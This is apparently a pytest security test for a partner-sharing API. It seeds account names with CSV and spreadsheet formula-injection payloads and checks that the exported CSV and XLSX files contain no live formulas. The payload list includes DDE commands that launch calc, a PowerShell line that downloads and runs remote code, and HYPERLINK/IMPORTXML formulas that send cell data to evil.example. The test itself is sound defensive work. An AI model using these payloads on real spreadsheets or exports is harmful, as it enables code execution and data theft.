"""What one company calls its accounts is opened by the other in a spreadsheet, and runs nothing."""

import csv
import io
import re
import zipfile

import openpyxl
import pytest

from tests.journeys.people import agree, compare

SIGNS = "=+-@＝＋－＠"  # noqa: RUF001
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Error: please click")',
    '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a/a10")',
    '=DDE("cmd";"/C calc";"x")',
    "＝1+1",  # noqa: RUF001
    "＋1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "＠SUM(1)",  # noqa: RUF001
]
"""What the literature puts into cells, in their plain and their full-width forms."""
SHAPES = ["{}", "  {}", '"{}', "a;{}", "a,{}", "'{}", "''{}", 'a";{}', "\t{}", "a\t{}", "a\n{}"]
EVIL = [shape.format(payload) for payload in PAYLOADS for shape in SHAPES]
FORMULA = re.compile(rf"""["\s\0]*[{re.escape(SIGNS)}]""")
FORMS = {
    "csv": "text/csv",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}
DINNER = {"name": "=1+1", "kind": "dinner", "capacity": 500, "starts_on": "2026-05-07"}


def listed(numbers):
    """Accounts with evil names and honest domains."""
    text = io.StringIO(newline="")
    write = csv.writer(text)
    write.writerow(["id", "name", "website", "type", "city", "industry"])
    for at, name in enumerate(EVIL):
        kind = "Customer" if (at + numbers) % 2 else "Prospect"
        write.writerow([f"{numbers}-{at}", name, f"evil-{at}.com", kind, name, name])
    return text.getvalue().encode()


@pytest.fixture(scope="module")
def exports(scene):
    """Every table of the API, as the other company gets it: path to an answer in a format."""
    mallory, victim = scene.office.manager("Mallory"), scene.office.manager("Victoria")
    for number, person in enumerate((mallory, victim)):
        assert scene.upload(person, "accounts", listed(number))["state"] == "succeeded"
    bad = ['1,Deal,"' + name.replace('"', '""') + '"' for name in EVIL]
    deals = "\n".join(["account_id,name,amount", *bad]).encode()
    rejected = scene.upload(victim, "opportunities", deals, max_reject_share="1", currency="EUR")
    partnership = agree(mallory, victim, level="all_accounts", contacts="titles")
    overlap = compare(mallory, victim, partnership)
    assert overlap["state"] == "succeeded"
    event = mallory.post(f"/v1/partnerships/{partnership}/events", DINNER, 201)["id"]
    victim.post(f"/v1/events/{event}/target-list", status=200)
    paths = {
        "overlap": f"/v1/overlaps/{overlap['id']}/export",
        "accounts": "/v1/accounts",
        "contacts": "/v1/contacts",
        "opportunities": "/v1/opportunities",
        "rejects": f"/v1/imports/{rejected['id']}/rejects",
        "target list": f"/v1/events/{event}/target-list",
        "targets": f"/v1/events/{event}/target-list/targets",
        "audit": "/v1/audit",
        "disclosures": f"/v1/partnerships/{partnership}/disclosures",
        "their accounts": f"/v1/overlaps/{overlap['id']}/their-accounts",
        "their contacts": f"/v1/overlaps/{overlap['id']}/their-contacts",
    }

    def get(what, form):
        return victim.call("GET", paths[what], 200, headers={"Accept": FORMS[form]})

    return get


TABLES = ["overlap", "accounts", "contacts", "opportunities", "rejects", "target list", "targets"]
TABLES += ["audit", "disclosures", "their accounts", "their contacts"]
FULL = {"overlap", "accounts", "rejects", "target list", "targets"}
"""Tables that have rows here."""


def test_every_table_of_the_api_is_looked_at(scene):
    document = scene.ann.get("/v1/openapi.json")
    tables = {
        path
        for path, methods in document["paths"].items()
        for method in methods.values()
        if isinstance(method, dict)
        and any(FORMS["xlsx"] in each.get("content", {}) for each in method["responses"].values())
    }

    # A report's table holds figures and our own words only; `api/formats.py` writes it, too.
    assert len(tables - {"/v1/reports/{report_id}/export"}) == len(TABLES)


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("table", TABLES)
def test_no_cell_of_a_csv_is_a_formula(exports, table, delimiter):
    answer = exports(table, "csv")

    text = answer.get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    # A negative number is one by type; no table here has any.
    evil = [cell for row in rows for cell in row if FORMULA.match(cell)]

    assert evil == []
    assert answer.headers["Content-Disposition"].startswith("attachment;")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    if table in FULL:
        assert len(rows) > 10
        assert re.search(rf"'[{re.escape(SIGNS)}]", text)


@pytest.mark.parametrize("table", TABLES)
def test_no_cell_of_a_workbook_is_a_formula(exports, table):
    content = exports(table, "xlsx").data

    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert not [name for name in book.namelist() if "external" in name.lower()]
    cells = re.findall(r"<c [^>]*>", sheet)
    values = [cell for row in openpyxl.load_workbook(io.BytesIO(content)).active for cell in row]

    assert "<f>" not in sheet
    assert "<f " not in sheet
    assert "<hyperlink" not in sheet.lower()
    assert not [cell for cell in cells if 't="str"' in cell]
    assert not [cell.value for cell in values if cell.data_type == "f"]
    if table in FULL:
        assert [cell for cell in values if FORMULA.match(str(cell.value))]


@pytest.mark.parametrize("form", FORMS)
def test_a_list_survives_being_exported_and_imported(scene, exports, form):
    before = exports("accounts", form).data
    person = scene.office.manager("Ivo")
    sheet = openpyxl.load_workbook(io.BytesIO(exports("accounts", "xlsx").data)).active.values
    name = next(sheet).index("name")

    imported = scene.upload(person, "accounts", before, f"list.{form}")

    assert imported["state"] == "succeeded"
    again = [each["name"] for each in person.every("/v1/accounts")]
    assert sorted(again) == sorted(row[name] for row in sheet)
    assert len(again) == len(EVIL)
